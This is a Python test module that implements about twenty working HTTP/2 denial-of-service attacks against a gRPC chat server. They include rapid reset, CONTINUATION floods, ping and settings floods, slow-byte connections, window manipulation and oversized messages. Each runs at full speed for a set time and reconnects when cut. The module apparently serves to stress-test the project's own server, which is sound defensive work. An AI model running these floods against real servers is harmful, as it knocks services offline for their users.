"""
Floods and games of HTTP/2, each at full speed until a time: ``python -m tests.hostile.attacks NAME PORT SECONDS``.

Each attack is a function of a port and an end; it returns how often it did its thing. An attack that the server cuts
connects again and goes on.
"""

from __future__ import annotations

import struct
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from types import MappingProxyType

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from tests.hostile.http2 import CHAT, COUNT, PREFACE, RawConnection, frame_bytes, message, request_headers

from edgephi.v1 import generation_pb2, generation_service_pb2

# As many as leave room for good clients: whoever may connect can also fill every place with calls that are well formed.
NUM_SLOW = 40
INITIAL_WINDOW_SIZE = 4

Attack = Callable[[int, float], int]


def small_chat(max_tokens: int = 1) -> bytes:
    """Return the message of a chat."""
    # Short: to be kept waiting by long answers that others asked for is a matter of fair shares.
    request = generation_service_pb2.ChatRequest()
    request.messages.add(role=generation_pb2.ROLE_USER, content="go")
    request.sampling.max_tokens = max_tokens
    return message(request.SerializeToString())


def _connections(port: int, end: float, settings: dict[int, int] | None = None) -> Iterator[RawConnection]:
    """Yield connections, a new one whenever the last was cut."""
    while time.monotonic() < end:
        try:
            with RawConnection(port, {} if settings is None else settings, timeout_s=1.0) as connection:
                yield connection
        except OSError:
            time.sleep(0.01)


def _flood(port: int, end: float, burst: Callable[[RawConnection, int], bytes]) -> int:
    """Send bursts, each made for its connection and number, until the end; read what comes back and drop it."""
    count = 0
    for connection in _connections(port, end):
        number = 0
        connection.socket.setblocking(True)
        connection.socket.settimeout(1.0)
        while time.monotonic() < end and connection.send(burst(connection, number)):
            number += 1
            count += 1
            _drain(connection)
    return count


def _drain(connection: RawConnection) -> None:
    connection.socket.setblocking(False)
    try:
        while data := connection.socket.recv(1 << 16):
            del data
        connection.is_closed = True
    except BlockingIOError:
        pass
    except OSError:
        connection.is_closed = True
    finally:
        connection.socket.settimeout(1.0)


def rapid_reset(port: int, end: float) -> int:
    """Open calls and reset each at once."""
    chat = small_chat()

    def burst(connection: RawConnection, number: int) -> bytes:
        frames = []
        for stream_id in range(number * 32 + 1, number * 32 + 33, 2):
            frames += connection.open_stream(stream_id, CHAT, data=chat)
            frames.append(RstStreamFrame(stream_id, error_code=8))
        return b"".join(frame.serialize() for frame in frames)

    return _flood(port, end, burst)


def stream_flood(port: int, end: float) -> int:
    """Open calls beyond the limit and never end them."""

    def burst(connection: RawConnection, number: int) -> bytes:
        return b"".join(
            frame.serialize()
            for stream_id in range(number * 200 + 1, number * 200 + 201, 2)
            for frame in connection.open_stream(stream_id, COUNT)
        )

    return _flood(port, end, burst)


def _made_you_reset(error: Callable[[int], bytes]) -> Attack:
    """Open calls and have the server reset each for an error of the stream."""
    chat = small_chat()

    def attack(port: int, end: float) -> int:
        def burst(connection: RawConnection, number: int) -> bytes:
            stream_id = 2 * number + 1
            opened = b"".join(frame.serialize() for frame in connection.open_stream(stream_id, CHAT, data=chat))
            return opened + error(stream_id)

        return _flood(port, end, burst)

    return attack


def ping_flood(port: int, end: float) -> int:
    """Ask for answers to pings and read none."""
    ping = PingFrame(0, opaque_data=b"01234567").serialize() * 64
    return _flood(port, end, lambda _connection, _number: ping)


def settings_flood(port: int, end: float) -> int:
    """Change settings, each change to be acknowledged."""
    change = b"".join(SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: size}).serialize() for size in (1, 65_535)) * 32
    return _flood(port, end, lambda _connection, _number: change)


def continuation_flood(port: int, end: float) -> int:
    """Begin headers that never end."""

    def burst(connection: RawConnection, number: int) -> bytes:
        if number == 0:
            return HeadersFrame(1, connection.block(request_headers())).serialize()
        return ContinuationFrame(1, connection.block([(f"x-{number}", "v" * 8000)])).serialize()

    return _flood(port, end, burst)


def empty_continuation_flood(port: int, end: float) -> int:
    """Continue headers with nothing."""

    def burst(connection: RawConnection, number: int) -> bytes:
        if number == 0:
            return HeadersFrame(1, connection.block(request_headers())).serialize()
        return ContinuationFrame(1, b"").serialize() * 64

    return _flood(port, end, burst)


def empty_data_flood(port: int, end: float) -> int:
    """Send data of no bytes on a call that never ends."""

    def burst(connection: RawConnection, number: int) -> bytes:
        if number == 0:
            return b"".join(frame.serialize() for frame in connection.open_stream(1, COUNT))
        return DataFrame(1, b"").serialize() * 64

    return _flood(port, end, burst)


def priority_flood(port: int, end: float) -> int:
    """Rearrange the priorities of streams that do not exist."""
    frames = b"".join(PriorityFrame(i, depends_on=i + 2, stream_weight=i % 256).serialize() for i in range(1, 129, 2))
    return _flood(port, end, lambda _connection, _number: frames)


def zero_window(port: int, end: float) -> int:
    """Ask for answers and give them no room."""
    chat = small_chat(4)
    count = 0
    for connection in _connections(port, end, {INITIAL_WINDOW_SIZE: 0}):
        for stream_id in range(1, 65, 2):
            if time.monotonic() >= end or not connection.send_frames(
                *connection.open_stream(stream_id, CHAT, data=chat)
            ):
                break
            count += 1
            time.sleep(0.02)
        _drain(connection)
    return count


def window_overflow(port: int, end: float) -> int:
    """Open a window beyond the largest there is."""

    def burst(connection: RawConnection, number: int) -> bytes:
        opened = b"".join(frame.serialize() for frame in connection.open_stream(2 * number + 1, COUNT))
        full = WindowUpdateFrame(2 * number + 1, window_increment=2**31 - 1).serialize()
        return opened + full + full

    return _flood(port, end, burst)


def tiny_windows(port: int, end: float) -> int:
    """Read answers one byte of window at a time."""
    chat = small_chat(4)

    def burst(connection: RawConnection, number: int) -> bytes:
        stream_id = 2 * (number // 64) + 1
        opened = b""
        if number % 64 == 0:
            opened = b"".join(frame.serialize() for frame in connection.open_stream(stream_id, CHAT, data=chat))
        return opened + WindowUpdateFrame(stream_id, window_increment=1).serialize()

    return _flood(port, end, burst)


def _slow(parts: Callable[[RawConnection], bytes]) -> Attack:
    """Open many connections and send each a byte at a time."""

    def attack(port: int, end: float) -> int:
        connections: list[tuple[RawConnection, bytes]] = []
        count = 0
        try:
            while time.monotonic() < end:
                while len(connections) < NUM_SLOW:
                    connection = RawConnection(port, timeout_s=1.0)
                    connections.append((connection, parts(connection)))
                for index, (connection, rest) in enumerate(connections):
                    connections[index] = (connection, rest[1:])
                    count += connection.send(rest[:1])
                for connection, rest in connections:
                    if connection.is_closed or not rest:
                        connection.socket.close()
                connections = [(c, rest) for c, rest in connections if not c.is_closed and rest]
                time.sleep(0.1)
        finally:
            for connection, _ in connections:
                connection.socket.close()
        return count

    return attack


def _half_headers(connection: RawConnection) -> bytes:
    connection.send(PREFACE + SettingsFrame(0).serialize())
    return HeadersFrame(1, connection.block(request_headers()) + b"\0" * 4000, flags=["END_HEADERS"]).serialize()


def connection_churn(port: int, end: float) -> int:
    """Connect, greet and leave."""
    count = 0
    for connection in _connections(port, end):
        connection.send(PingFrame(0, opaque_data=b"01234567").serialize())
        count += 1
    return count


def large_metadata(port: int, end: float) -> int:
    """Send metadata beyond the limit."""

    def burst(connection: RawConnection, number: int) -> bytes:
        block = connection.block([*request_headers(), *((f"x-{i}", f"{number}" * 600) for i in range(40))])
        first, rest = block[:16_000], block[16_000:]
        frames = [HeadersFrame(2 * number + 1, first, flags=[] if rest else ["END_HEADERS"])]
        pieces = [rest[at : at + 16_000] for at in range(0, len(rest), 16_000)]
        more = [ContinuationFrame(2 * number + 1, piece) for piece in pieces]
        if more:
            more[-1].flags.add("END_HEADERS")
        return b"".join(frame.serialize() for frame in (*frames, *more))

    return _flood(port, end, burst)


def large_messages(port: int, end: float) -> int:
    """Begin messages of 4 GiB."""
    part = b"\0" * 16_000

    def burst(connection: RawConnection, number: int) -> bytes:
        stream_id = 2 * number + 1
        too_long = DataFrame(stream_id, message(b"", length=(1 << 32) - 1))
        frames = [*connection.open_stream(stream_id), too_long, *(DataFrame(stream_id, part) for _ in range(3))]
        return b"".join(frame.serialize() for frame in frames)

    return _flood(port, end, burst)


def malformed_messages(port: int, end: float) -> int:
    """Send messages that are none."""

    def burst(connection: RawConnection, number: int) -> bytes:
        frames = connection.open_stream(2 * number + 1, COUNT, data=message(b"\xff\xff\xff"))
        return b"".join(frame.serialize() for frame in frames)

    return _flood(port, end, burst)


ATTACKS: Mapping[str, Attack] = MappingProxyType(
    {
        "rapid reset": rapid_reset,
        "stream flood": stream_flood,
        "made you reset: window update 0": _made_you_reset(lambda i: frame_bytes(8, 0, i, b"\0\0\0\0")),
        "made you reset: half-closed data": _made_you_reset(lambda i: DataFrame(i, b"x").serialize()),
        "made you reset: priority of itself": _made_you_reset(lambda i: frame_bytes(2, 0, i, struct.pack(">IB", i, 1))),
        "made you reset: short priority": _made_you_reset(lambda i: frame_bytes(2, 0, i, b"\0")),
        "made you reset: window overflow": _made_you_reset(
            lambda i: WindowUpdateFrame(i, window_increment=2**31 - 1).serialize()
        ),
        "ping flood": ping_flood,
        "settings flood": settings_flood,
        "continuation flood": continuation_flood,
        "empty continuation flood": empty_continuation_flood,
        "empty data flood": empty_data_flood,
        "priority flood": priority_flood,
        "zero window": zero_window,
        "window overflow": window_overflow,
        "tiny windows": tiny_windows,
        "slow preface": _slow(lambda _: PREFACE),
        "slow headers": _slow(_half_headers),
        "connection churn": connection_churn,
        "large metadata": large_metadata,
        "large messages": large_messages,
        "malformed messages": malformed_messages,
    }
)


def main() -> None:
    """Attack a port for some seconds and print how often."""
    name, port, seconds = sys.argv[1:]
    sys.stdout.write(f"{ATTACKS[name](int(port), time.monotonic() + float(seconds))}\n")


if __name__ == "__main__":
    main()
